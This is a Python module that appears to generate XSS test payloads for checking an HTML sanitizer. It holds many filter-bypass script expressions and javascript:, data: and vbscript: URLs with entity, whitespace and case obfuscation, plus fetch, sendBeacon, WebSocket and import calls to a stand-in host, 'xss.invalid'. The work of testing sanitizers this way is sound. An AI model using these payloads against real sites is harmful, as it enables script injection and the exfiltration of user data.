"""What a payload does when it runs, in many spellings: each reports its number by one of these.

`xss` is a function that the witness puts into every page (see `witness.py`); a changed
`window.name`, a dialog and a request to `FOREIGN` count as well.
"""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Callable, Sequence
from typing import Final

FOREIGN: Final = "xss.invalid"  # RFC 2606: no such host; a request to it is a failure
Script = Callable[[int], str]


def spelled(text: str) -> str:
    """Spell the letters of a JavaScript name as escapes that it may hold."""
    return "".join(f"\\u{ord(one):04x}" if one.isalpha() else one for one in text)


def decimal(text: str) -> str:
    """Write each character as a decimal reference of HTML."""
    return "".join(f"&#{ord(one)};" for one in text)


def hexadecimal(text: str) -> str:
    """Write each character as a hexadecimal reference without its semicolon."""
    return "".join(f"&#x{ord(one):04X}" for one in text)


def half(text: str) -> str:
    """Write every other character as a reference with many zeros."""
    return "".join(f"&#00000{ord(c)};" if n % 2 else c for n, c in enumerate(text))


def percent(text: str) -> str:
    """Write each character as a percent-encoded byte."""
    return "".join(f"%{byte:02X}" for byte in text.encode())


def plain(text: str) -> str:
    """Leave the text as it is."""
    return text


# Expressions that report, for where HTML has been left behind.
SCRIPTS: Final[Sequence[Script]] = (
    lambda n: f"xss({n})",
    lambda n: f"xss`{n}`",
    lambda n: f"top.xss({n})",
    lambda n: f"self['xs'+'s']({n})",
    lambda n: f"window.name='xss{n}'",
    lambda n: f"alert({n})",
    lambda n: f"[{n}].map(xss)",
    lambda n: f"{spelled('xss')}({n})",
    lambda n: f"(0,eval)('xss({n})')",
    lambda n: f"setTimeout('xss({n})')",
    lambda n: f"Function('xss({n})')()",
    lambda n: f"Reflect.apply(xss,0,[{n}])",
    lambda n: f"new Image().src='//{FOREIGN}/{n}'",
    lambda n: f"fetch('//{FOREIGN}/{n}')",
    lambda n: f"navigator.sendBeacon('//{FOREIGN}/{n}')",
    lambda n: f"import('//{FOREIGN}/{n}')",
    lambda n: f"location='//{FOREIGN}/{n}'",
    lambda n: f"new WebSocket('ws://{FOREIGN}/{n}')",
    lambda n: f"onerror=xss;throw {n}",
    lambda n: f"with(top)xss({n})",
)
# Addresses that run a script, or lead away, when a browser follows them or loads them.
ADDRESSES: Final[Sequence[Script]] = (
    lambda n: f"javascript:xss({n})",
    lambda n: f"JaVaScRiPt:xss({n})",
    lambda n: f"  javascript:xss({n})",
    lambda n: f"\x01javascript:xss({n})",
    lambda n: f"java\tscript:xss({n})",
    lambda n: f"java\nscript:xss({n})",
    lambda n: f"java\u200bscript:xss({n})",
    lambda n: f"javascript&colon;xss({n})",
    lambda n: f"{hexadecimal('javascript')}:xss({n})",
    lambda n: f"{decimal('javascript:')}xss({n})",
    lambda n: f"javascript://%0axss({n})",
    lambda n: f"javascript:/*--></title></style></script>*/xss({n})",
    lambda n: f"javascript:'<svg onload=xss({n})>'",
    lambda n: f"data:text/html,<script>xss({n})</script>",
    lambda n: f"data:text/html;base64,{_base64(f'<script>top.xss({n})</script>')}",
    lambda n: f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss({n})'/>",
    lambda n: f"vbscript:xss({n})",
    lambda n: f"view-source:javascript:xss({n})",
    lambda n: f"blob:null/{n}",
    lambda n: f"//{FOREIGN}/{n}",
    lambda n: f"\\\\{FOREIGN}\\{n}",
    lambda n: f"/\\{FOREIGN}/{n}",
    lambda n: f"/\t/{FOREIGN}/{n}",
    lambda n: f"https:{FOREIGN}/{n}",
    lambda n: f"https://{FOREIGN}/{n}?'><img src=x onerror=xss({n})>",
    lambda n: f'https://{FOREIGN}/{n}#"onmouseover=xss({n})//',
    lambda n: f"http://127.0.0.1@{FOREIGN}/{n}",
    lambda n: f"ftp://{FOREIGN}/{n}",
)
# How an attribute's script may be written; a browser reads all of them alike.
ENCODINGS: Final[Sequence[Callable[[str], str]]] = (plain, plain, decimal, hexadecimal, half)


def _base64(text: str) -> str:
    return b64encode(text.encode()).decode()
